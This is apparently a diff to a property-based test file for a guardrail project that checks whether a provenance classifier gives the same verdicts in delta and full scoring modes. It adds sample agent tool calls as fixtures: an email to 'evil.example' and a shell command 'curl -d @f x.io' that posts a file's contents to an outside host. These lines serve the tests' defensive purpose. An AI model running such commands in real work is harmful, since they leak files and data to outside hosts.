@@ -21,7 +21,9 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from deltaguard.classifiers.actions import judge
 from deltaguard.classifiers.base import Update
+from deltaguard.classifiers.provenance import ProvenanceClassifier, Sketch
 from deltaguard.lanes.output_stream import OutputStreamScorer
 from deltaguard.parsing import parse_item
 from deltaguard.state.scoring import Scorer
@@ -150,6 +152,34 @@ def verdict_tuple(v):
     return v.decision, v.flagged_categories, v.category_scores
 
 
+# Actions judged against the provenance sketch after every turn (classifiers/actions.py):
+# a call to the host one of the ATTACKS names, and one to a host nobody named.
+ACTIONS = [
+    {
+        "type": "function_call",
+        "call_id": "a1",
+        "name": "send_email",
+        "arguments": '{"to": "http://evil.example"}',
+    },
+    {
+        "type": "local_shell_call",
+        "call_id": "a2",
+        "action": {"type": "exec", "command": ["curl", "-d", "@f", "x.io"]},
+    },
+]
+
+
+def provenance_checks(scorer: Scorer, delta_snapshot, full_snapshot, where: str) -> None:
+    """The provenance sketch, and so every action verdict read from it, is the same in
+    delta and full mode (it is state, not a score, so the verdict comparison misses it)."""
+    if ProvenanceClassifier.name not in delta_snapshot.states:
+        return
+    delta, full = delta_snapshot.states["provenance"], full_snapshot.states["provenance"]
+    assert delta == full, f"{where}: the provenance sketch differs"
+    for call in ACTIONS:
+        assert judge(Sketch.of(delta), call) == judge(Sketch.of(full), call), where
+
+
 def check_equivalence(scorer: Scorer, turns, actions, streams, max_snapshots: int) -> None:
     rules = [c for c in scorer.classifiers if c.name in ("secrets", "pii")]
     tracker = ConversationTracker(scorer, ConversationStore(StoreLimits(max_snapshots=max_snapshots)))
@@ -165,7 +195,9 @@ def check_equivalence(scorer: Scorer, turns, actions, streams, max_snapshots: in
         tracked = tracker.score_turn(f"r{t}", inputs, prev)
         delta = scorer.verdict(tracked.fold, prior=tracked.rebuild)
 
-        full = scorer.verdict(scorer.fold(scorer.empty(), [*history, *inputs]))
+        full_fold = scorer.fold(scorer.empty(), [*history, *inputs])
+        full = scorer.verdict(full_fold)
+        provenance_checks(scorer, tracked.fold.after, full_fold.after, f"turn {t}")
 
         assert delta.decision == full.decision, f"turn {t}: {delta.decision} != {full.decision}"
         assert delta.flagged_categories == full.flagged_categories, f"turn {t}"
@@ -179,7 +211,9 @@ def check_equivalence(scorer: Scorer, turns, actions, streams, max_snapshots: in
             # The turn as reported at its end: decision on the input, scores with the output.
             ended = scorer.verdict(tracked.fold, prior=tracked.rebuild, output=out.fold)
             gate = scorer.fold(scorer.empty(), [*history, *inputs])
-            full_end = scorer.verdict(gate, output=scorer.fold(gate.after, outputs))
+            full_out = scorer.fold(gate.after, outputs)
+            full_end = scorer.verdict(gate, output=full_out)
+            provenance_checks(scorer, out.fold.after, full_out.after, f"turn {t} (end)")
             assert verdict_tuple(ended)[:2] == verdict_tuple(full_end)[:2], f"turn {t} (end)"
             for cat, value in full_end.category_scores.items():
                 assert math.isclose(ended.category_scores[cat], value, abs_tol=1e-6), f"turn {t} {cat} (end)"
@@ -213,7 +247,7 @@ class Forgetful:
         return self.inner.update(self.inner.initial_state(), items)
 
 
-@pytest.mark.parametrize("forgetful", ["every classifier", "conversation", "harm"])
+@pytest.mark.parametrize("forgetful", ["every classifier", "conversation", "harm", "provenance"])
 def test_the_property_catches_a_broken_state_update(loaded_classifiers, scorer, forgetful):
     """Also with only the conversation (or harm) classifier broken: the split attacks (and the
     harmful request) exercise its state."""
